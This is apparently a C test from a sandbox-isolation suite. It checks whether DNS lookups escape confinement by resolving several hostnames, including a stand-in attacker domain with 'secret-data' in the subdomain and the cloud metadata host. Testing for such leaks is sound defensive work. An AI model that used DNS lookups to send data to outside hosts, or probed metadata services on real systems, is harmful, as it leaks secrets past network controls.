// SPDX-License-Identifier: Apache-2.0
// requires: NW-1
// about: looks up names, the way data leaves many boxes
#include "attack.h"

#include <netdb.h>
#include <sys/socket.h>

int main(void) {
  struct addrinfo* found = NULL;
  const char* names[] = {"example.org", "secret-data.attacker.example", "metadata.google.internal"};
  for (size_t i = 0; i < sizeof(names) / sizeof(*names); ++i) {
    if (getaddrinfo(names[i], "80", NULL, &found) == 0) through("%s has an address", names[i]);
  }
  must("localhost has one", getaddrinfo("localhost", "80", NULL, &found) == 0);
  return verdict();
}
